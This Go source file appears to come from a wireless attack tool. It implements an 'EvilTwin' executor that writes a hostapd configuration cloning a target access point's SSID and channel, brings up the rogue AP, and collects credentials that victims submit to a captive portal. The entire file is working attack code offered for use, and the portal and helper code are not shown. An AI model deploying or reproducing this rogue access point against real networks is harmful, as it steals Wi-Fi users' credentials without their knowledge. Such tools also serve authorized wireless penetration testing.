package executor

import (
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"time"

	"github.com/lcalzada-xor/wpilot/internal/core/domain"
)

const apBinary = "hostapd"

// EvilTwin clones a target access point with hostapd and harvests
// credentials from the captive portal log. It implements
// ports.EvilTwinExecutor.
type EvilTwin struct {
	binary string
	outDir string
}

// NewEvilTwin writes credential artifacts under outDir.
func NewEvilTwin(outDir string) *EvilTwin {
	return &EvilTwin{binary: apBinary, outDir: outDir}
}

// Clone brings up a rogue AP mirroring the target's SSID on its channel
// and waits for a credential submission until the timeout.
func (e *EvilTwin) Clone(ctx context.Context, lease *domain.Lease, target domain.Target, timeout time.Duration) (domain.Artifact, error) {
	bin, err := exec.LookPath(e.binary)
	if err != nil {
		return domain.Artifact{}, &domain.ExecutorUnavailableError{Phase: domain.PhaseEvilTwin, Binary: e.binary}
	}
	if err := os.MkdirAll(e.outDir, 0o755); err != nil {
		return domain.Artifact{}, fmt.Errorf("creating output dir: %w", err)
	}

	confPath := filepath.Join(e.outDir, sanitizeBSSID(target.BSSID)+"_ap.conf")
	credPath := filepath.Join(e.outDir, sanitizeBSSID(target.BSSID)+"_creds.txt")

	conf := "interface=" + lease.Interface + "\n" +
		"ssid=" + target.SSID + "\n" +
		"channel=" + strconv.Itoa(target.Channel) + "\n" +
		"hw_mode=" + hwMode(target.Channel) + "\n"
	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
		return domain.Artifact{}, fmt.Errorf("writing hostapd config: %w", err)
	}
	defer os.Remove(confPath)

	runCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	cmd := exec.CommandContext(runCtx, bin, confPath)
	log.Printf("[EXEC] %s cloning %q on channel %d via %s", e.binary, target.SSID, target.Channel, lease.Interface)

	err = cmd.Run()
	// hostapd runs until killed; the interesting question is whether a
	// credential landed while it was up.
	if artifactOK(credPath) {
		return domain.Artifact{Path: credPath, Kind: domain.PhaseEvilTwin, TargetID: target.BSSID}, nil
	}
	if errors.Is(runCtx.Err(), context.DeadlineExceeded) {
		return domain.Artifact{}, &domain.ExecutorTimeoutError{Phase: domain.PhaseEvilTwin, Timeout: timeout}
	}
	if ctx.Err() != nil {
		return domain.Artifact{}, ctx.Err()
	}
	if err != nil {
		return domain.Artifact{}, fmt.Errorf("%s: %w", e.binary, err)
	}
	return domain.Artifact{}, fmt.Errorf("%s exited without credentials for %s", e.binary, target.BSSID)
}

func hwMode(channel int) string {
	if channel >= 36 {
		return "a"
	}
	return "g"
}
